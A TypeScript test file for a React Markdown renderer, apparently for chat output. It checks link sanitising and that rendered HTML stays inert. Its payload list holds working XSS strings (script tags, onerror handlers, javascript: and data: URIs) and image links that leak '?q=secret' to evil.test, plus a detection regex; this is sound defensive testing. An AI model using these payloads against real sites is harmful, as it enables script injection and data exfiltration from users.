import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { Markdown } from "./Markdown";
import { blocksOf } from "./blocks";
import { safeAddress } from "./links";

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe("blocks", () => {
  test("put together again they are the text", () => {
    const text = "# A\n\nB\nC\n\n- D\n\n  E\n\n- F\n\n```py\n\nG\n\n```\n\nH\r\n\r\nI\n\n\n";
    expect(blocksOf(text).join("")).toBe(text);
    expect(blocksOf("")).toEqual([]);
  });

  test.each([
    ["paragraphs are cut apart", "A\n\nB\n\n# C\n", 3],
    ["a list with blank lines stays whole", "1. A\n\n   B\n\n2. C\n\n3. D\n", 1],
    ["a fence stays whole", "```py\nA\n\nB\n\n```\n", 1],
    ["a fence that is still open stays whole", "~~~\nA\n\nB\n\nC", 1],
    ["a shorter or other fence does not close one", "````\nA\n\n```\n\nB\n\n~~~~\n\nC\n````\n\nD", 2],
    ["code in a line is no fence", "```A``` B\n\nC\n\nD", 3],
    ["text with a definition stays whole", "A [b][c]\n\nD\n\n[c]: https://example.org\n", 1],
  ])("%s", (_name, text, count) => {
    expect(blocksOf(text)).toHaveLength(count);
  });

  test("rendered apart they are what they are together", () => {
    const text =
      "A *b*\n\n> C\n\n1. D\n\n   E\n\n2. F\n\nG\n\n| H | I |\n| - | - |\n| J | K |\n\n```py\nL\n\nM\n```\n\nN";
    expect(blocksOf(text).length).toBeGreaterThan(4);
    const together = html(`${text}\n\n[whole]: https://example.org`);
    expect(html(text).replaceAll("\n", "")).toBe(together.replaceAll("\n", ""));
  });
});

describe("links", () => {
  test.each(["https://example.org/a?b=c#d", "http://example.org", "mailto:a@example.org", "HTTPS://EXAMPLE.ORG"])(
    "%s is one",
    (address) => {
      expect(safeAddress(address)).toBe(address);
    },
  );

  test.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\u0001javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "//evil.test/x",
    "/api/chat",
    "api/chat",
    "#x",
    "?x",
    "",
    "ftp://example.org",
    "view-source:https://example.org",
    "\\\\evil.test",
  ])("%j is none", (address) => {
    expect(safeAddress(address)).toBe("");
  });

  test("open elsewhere and tell the other side nothing", () => {
    expect(html("[a](https://example.org)")).toBe(
      '<p><a href="https://example.org" title="https://example.org" target="_blank" rel="noopener noreferrer">a</a></p>',
    );
  });
});

describe("what a model writes is text", () => {
  const PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://example.org' onclick=alert(1)>x</a>",
    "<form action=https://evil.test><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<style>@import 'https://evil.test/x.css'</style>",
    "<base href=https://evil.test/>",
    "<object data=https://evil.test></object><embed src=https://evil.test>",
    "<!-- --><script>alert(1)</script> -->",
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.test/?q=secret)",
    "![x](//evil.test/?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "![x][y]\n\n[y]: https://evil.test/?q=secret",
    "[![x](https://evil.test/b.png)](https://evil.test)",
    '![x](https://evil.test/"onerror="alert(1))',
    '[x](https://example.org "\\" onmouseover=alert(1) x=\\"")',
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n| - |\n| <script>alert(1)</script> |",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  ];
  const FORBIDDEN =
    /<(?!\/?(?:p|a|em|strong|del|code|pre|span|br|hr|h[1-6]|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|div|figure|figcaption|button|svg|path|rect|section|sup|input)[\s/>])|<[^>]*\s(?:on\w+|style|srcset|src|action|formaction|background)=/;

  test.each(PAYLOADS)("%s", (payload) => {
    for (let cut = 1; cut <= payload.length; cut += 1) {
      const rendered = html(payload.slice(0, cut));
      expect(rendered).not.toMatch(FORBIDDEN);
      for (const [, address] of rendered.matchAll(/href="([^"]*)"/g))
        expect(address).toMatch(/^(?:https?:\/\/|mailto:)/i);
    }
  });

  test("an image is a link that tells where it leads, and plain text inside another link", () => {
    expect(html("![a cat](https://evil.test/cat.png)")).toContain(">Image: a cat (evil.test)</a>");
    const nested = html("[![a cat](https://evil.test/cat.png)](https://example.org)");
    expect(nested.match(/<a /g)).toHaveLength(1);
    expect(nested).toContain("<span>Image: a cat</span>");
  });

  test("a block of code keeps every character", () => {
    expect(html("```html\n<b a='c'>&amp;</b>\n\n  x\n```")).toContain(
      "&lt;b a=&#x27;c&#x27;&gt;&amp;amp;&lt;/b&gt;\n\n  x</code>",
    );
  });
});
